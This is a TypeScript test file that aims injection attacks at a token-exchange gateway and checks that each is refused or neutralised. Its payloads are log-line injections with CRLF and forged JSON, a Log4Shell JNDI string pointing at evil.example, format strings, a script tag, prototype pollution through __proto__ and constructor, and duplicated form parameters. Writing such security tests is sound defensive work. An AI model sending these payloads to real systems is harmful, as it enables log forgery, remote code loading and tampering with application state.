import { expect } from 'vitest';
import { readJwt } from '../../support/answers.js';
import type { Ask, Theme } from '../attack.js';
import type { Answer } from '../endpoints.js';
import type { Scene } from '../scene.js';

const ENUM = 'api_type is an enum of the schema, which GraphQL checks';
const ONLY_FORM = 'only a form can hold a parameter twice';
const honest = ({ token }: Scene): Ask => ({ idToken: token() });
/** What would begin a line of its own in a log that is no JSON, or run code in a library that formats it. */
const LINES = [
  'x\n{"audit":"sd","user":"forged"}',
  'x\r\n{"audit":"sd","user":"forged"}\r\n',
  '\u001b[2J\u001b[31m forged',
  '%s %d %j forged',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack of CVE-2021-44228
  '${jndi:ldap://evil.example/forged}',
  'x","audit":"sd","user":"forged',
];

/** Every line of the log is one JSON object, and none of them says what the attacker wrote. */
function checkLog(_answer: Answer, { server: { log } }: Scene): void {
  for (const line of log.lines) {
    expect(line.trimEnd()).not.toMatch(/\p{Cc}/u);
    expect(JSON.parse(line)).not.toMatchObject({ user: 'forged' });
  }
}

function checkUnpolluted({ token = '' }: Answer, { user }: Scene): void {
  expect(Object.keys(Object.prototype)).toEqual([]);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(readJwt(token).payload).toMatchObject({ sub: user, aud: 'web' });
}

export const INJECTION: Theme = {
  title: 'An input that shall be taken for something else',
  setting: {},
  attacks: [
    {
      name: 'The name of the calling application holds a line of the log',
      source: 'OWASP Logging Cheat Sheet, OWASP Top 10 A09:2021, CVE-2021-44228',
      attack: ({ token }) => LINES.map((clientId) => ({ idToken: token({ aud: clientId }), clientId })),
      control: honest,
      outcome: { refused: 'UNAUTHORIZED_CLIENT', message: 'names no application of this tenant', check: checkLog },
    },
    {
      name: 'The name of the target holds a line of the log',
      source: 'OWASP Logging Cheat Sheet, OWASP Top 10 A09:2021',
      attack: ({ token }) => LINES.map((target) => ({ idToken: token(), target })),
      control: honest,
      outcome: { refused: 'INVALID_TARGET', message: 'names no application of this tenant', check: checkLog },
      effects: { spent: 1 },
    },
    {
      name: 'The header X-Request-Id holds more than an id',
      source: 'OWASP Logging Cheat Sheet, OWASP WSTG-INPV-15 HTTP Response Splitting',
      attack: (scene) =>
        ['a b', '<script>', 'x'.repeat(65), 'a;b', '{"audit":"sd"}', 'a\tb'].map((id) => ({
          ...honest(scene),
          onWire: (request) => ({ ...request, headers: { ...request.headers, 'X-Request-Id': id } }),
        })),
      control: honest,
      outcome: {
        granted: 'the gateway makes an id of its own',
        check: ({ headers }) => expect(headers['x-request-id']).toMatch(/^[\da-f-]{36}$/),
      },
    },
    {
      name: 'A body sets properties of a prototype',
      source: 'OWASP Prototype Pollution Prevention Cheat Sheet, CVE-2019-10744',
      attack: (scene) =>
        ['__proto__', 'constructor'].map((name) => ({
          ...honest(scene),
          onWire: (request) => {
            const body = request.body.toString();
            const value = { polluted: true, target: 'api', prototype: { polluted: true, target: 'api' } };
            const member = `"${name}":${JSON.stringify(value)},`;
            const polluted = body.startsWith('{')
              ? body.replace(/("variables":)?\{(?="input"|"grant_type")/, (start) => `${start}${member}`)
              : `${body}&${name}[polluted]=1&${name}.polluted=1&${name}[prototype][polluted]=1&${name}=1`;
            expect(polluted).not.toBe(body);
            return { ...request, body: polluted };
          },
        })),
      control: honest,
      outcome: { granted: 'nothing of it is read', check: checkUnpolluted },
    },
    {
      name: 'The scope holds characters that a scope cannot have',
      source: 'RFC 6749 §3.3, OWASP WSTG-INPV-04',
      attack: ({ token }) =>
        ['a"b', 'a\\b', 'a\u0000b', 'a\tb', 'ä', 'openid\nadmin', '\u2028'].map((scope) => ({
          idToken: token(),
          scope,
        })),
      control: ({ token }) => ({ idToken: token(), scope: 'openid profile unknown:scope' }),
      outcome: { refused: 'INVALID_SCOPE', message: 'scope must consist of scope values' },
      effects: { spent: 1 },
    },
    {
      name: 'A parameter is given twice, so that two servers could read different ones',
      source: 'OWASP WSTG-INPV-04 HTTP Parameter Pollution, RFC 6749 §3.2',
      attack: (scene) =>
        ['client_id=chat', 'id_token=x', 'target=vault', 'grant_type=x', 'client_id='].map((extra) => ({
          ...honest(scene),
          target: 'api',
          onWire: (request) => ({ ...request, body: `${request.body}&${extra}` }),
        })),
      control: honest,
      outcome: { refused: 'INVALID_REQUEST', message: 'is given twice' },
      notAt: { 'graphql-argument': ONLY_FORM, 'graphql-header': ONLY_FORM, 'delegation-json': ONLY_FORM },
    },
    {
      name: 'The add-on is the name of a property that every object of JavaScript has',
      source: 'OWASP Prototype Pollution Prevention Cheat Sheet',
      attack: ({ token }) =>
        ['__proto__', 'constructor', 'toString', 'AWS', 'app,aws'].map((name) => ({
          idToken: token(),
          apiType: null,
          onWire: (request) => {
            const body = request.body.toString();
            const changed = body.startsWith('{')
              ? body.replace('{', `{"api_type":${JSON.stringify(name)},`)
              : `${body}&${new URLSearchParams({ api_type: name })}`;
            return { ...request, body: changed };
          },
        })),
      control: honest,
      outcome: { refused: 'INVALID_REQUEST', message: 'api_type must be one of' },
      notAt: { 'graphql-argument': ENUM, 'graphql-header': ENUM },
    },
  ],
};
